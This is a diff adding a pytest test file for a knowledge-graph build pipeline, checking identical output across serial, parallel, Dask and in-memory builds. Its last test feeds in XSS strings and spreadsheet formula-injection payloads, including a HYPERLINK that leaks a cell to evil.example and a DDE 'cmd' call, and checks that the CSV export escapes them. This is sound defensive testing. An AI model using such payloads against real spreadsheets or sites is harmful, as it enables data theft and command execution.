@@ -1,0 +1,146 @@
+"""The streaming build: the same bytes serially, on local processes, on a Dask cluster, with
+kg.ttl merged from many sorted runs on disk, and from the in-memory API."""
+
+from __future__ import annotations
+
+import filecmp
+import shutil
+from pathlib import Path
+
+import pytest
+
+from kg import pipeline
+from kg.extract import SAMPLES, extract, write_csv
+from kg.rdf.export import build_graph, write_graph
+from tests.conftest import DATA
+
+FILES = (
+    "kg.ttl",
+    "kg.trig",
+    "catalog.ttl",
+    "projects.csv",
+    "indicators.csv",
+    "funding.csv",
+    "issues.csv",
+    "narrative_figures.csv",
+)
+
+
+@pytest.fixture(scope="module")
+def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The samples plus two defect fixtures (one of them unreadable)."""
+    root = tmp_path_factory.mktemp("corpus")
+    for p in SAMPLES.iterdir():
+        shutil.copy(p, root / p.name)
+    shutil.copy(DATA / "xss-names.txt", root / "xss-names.txt")
+    (root / "binary.txt").write_bytes(b"\x00\x01\x02\x03" * 64)
+    return root
+
+
+@pytest.fixture(scope="module")
+def serial(corpus: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    out = tmp_path_factory.mktemp("serial")
+    pipeline.build([corpus], out, jobs=1)
+    return out
+
+
+def same(a: Path, b: Path) -> list[str]:
+    return [name for name in FILES if not filecmp.cmp(a / name, b / name, shallow=False)]
+
+
+def test_parallel_build_writes_the_same_bytes(corpus: Path, serial: Path, tmp_path: Path) -> None:
+    summary = pipeline.build([corpus], tmp_path, jobs=2)
+    assert same(serial, tmp_path) == []
+    assert summary.documents == 5 and [i.source for i in summary.unreadable] == ["binary.txt"]
+
+
+def test_in_memory_api_writes_the_same_bytes(corpus: Path, serial: Path, tmp_path: Path) -> None:
+    ex = extract([corpus])
+    write_csv(ex, tmp_path)
+    write_graph(build_graph(ex), tmp_path)
+    assert same(serial, tmp_path) == []
+
+
+def test_kg_ttl_merged_from_many_runs_is_the_same(
+    corpus: Path, serial: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(pipeline, "RUN_LINES", 997)  # ~45 sorted runs on disk
+    pipeline.build([corpus], tmp_path, jobs=1)
+    assert same(serial, tmp_path) == []
+    assert not list(tmp_path.glob(".build-*"))  # the runs are gone
+
+
+def test_a_copy_under_another_name_adds_nothing(serial: Path, tmp_path: Path) -> None:
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    for p in SAMPLES.iterdir():
+        shutil.copy(p, docs / p.name)
+    shutil.copy(SAMPLES / "001_ca9d259f3fbd1813.txt", docs / "zz-copy-of-001.txt")
+    out = tmp_path / "out"
+    summary = pipeline.build([docs], out, jobs=1)
+    assert summary.documents == 4 and summary.issues["duplicate-document"] == 1
+    assert "zz-copy-of-001.txt has the same content as 001_ca9d259f3fbd1813.txt" in (
+        out / "issues.csv"
+    ).read_text(encoding="utf-8")
+    only = tmp_path / "only"
+    pipeline.build([SAMPLES], only, jobs=1)
+    assert filecmp.cmp(out / "kg.ttl", only / "kg.ttl", shallow=False)
+
+
+def test_dask_local_cluster_writes_the_same_bytes(
+    corpus: Path, serial: Path, tmp_path: Path
+) -> None:
+    distributed = pytest.importorskip("distributed")
+    with distributed.LocalCluster(
+        n_workers=2,
+        threads_per_worker=1,
+        processes=True,
+        host="127.0.0.1",
+        dashboard_address=None,
+    ) as cluster:
+        summary = pipeline.build([corpus], tmp_path, dask=cluster.scheduler_address)
+    assert summary.documents == 5
+    assert same(serial, tmp_path) == []
+
+
+def test_a_document_that_hangs_or_breaks_is_skipped_with_an_issue(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    import time
+
+    real = pipeline._process
+
+    def slow_or_broken(path: Path, base: str | None) -> pipeline.DocResult:
+        if path.name.startswith("001"):
+            time.sleep(60)
+        if path.name.startswith("002"):
+            raise RuntimeError("parser bug")
+        return real(path, base)
+
+    monkeypatch.setattr(pipeline, "_process", slow_or_broken)
+    summary = pipeline.build([SAMPLES], tmp_path, jobs=1, time_limit=3)
+    assert summary.documents == 2  # 000 and 004 went through
+    assert summary.issues["document-timeout"] == 1 and summary.issues["document-error"] == 1
+    issues = (tmp_path / "issues.csv").read_text(encoding="utf-8")
+    assert "001_ca9d259f3fbd1813.txt: not read within 3 s; skipped" in issues
+    assert "RuntimeError: parser bug" in issues
+
+
+def test_csv_cells_cannot_run_in_a_spreadsheet(tmp_path: Path) -> None:
+    text = (DATA / "xss-names.txt").read_text(encoding="utf-8")
+    hostile = text.replace(
+        "<img src=x onerror=alert(1)></script><script>alert(2)</script>",
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    ).replace("测试目标", "@SUM(1+1)*cmd|' /C calc'!A0")
+    (tmp_path / "doc.txt").write_text(hostile, encoding="utf-8")
+    out = tmp_path / "out"
+    pipeline.build([tmp_path / "doc.txt"], out, jobs=1)
+    import csv
+
+    with (out / "projects.csv").open(encoding="utf-8") as f:
+        (row,) = list(csv.DictReader(f))
+    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert row["goal"].startswith("'@SUM")
+    assert row["total_yuan"] == "1000000"  # numbers stay numbers
+    with (out / "budget_changes.csv").open(encoding="utf-8") as f:
+        assert all(not r["value"].startswith("'") for r in csv.DictReader(f))
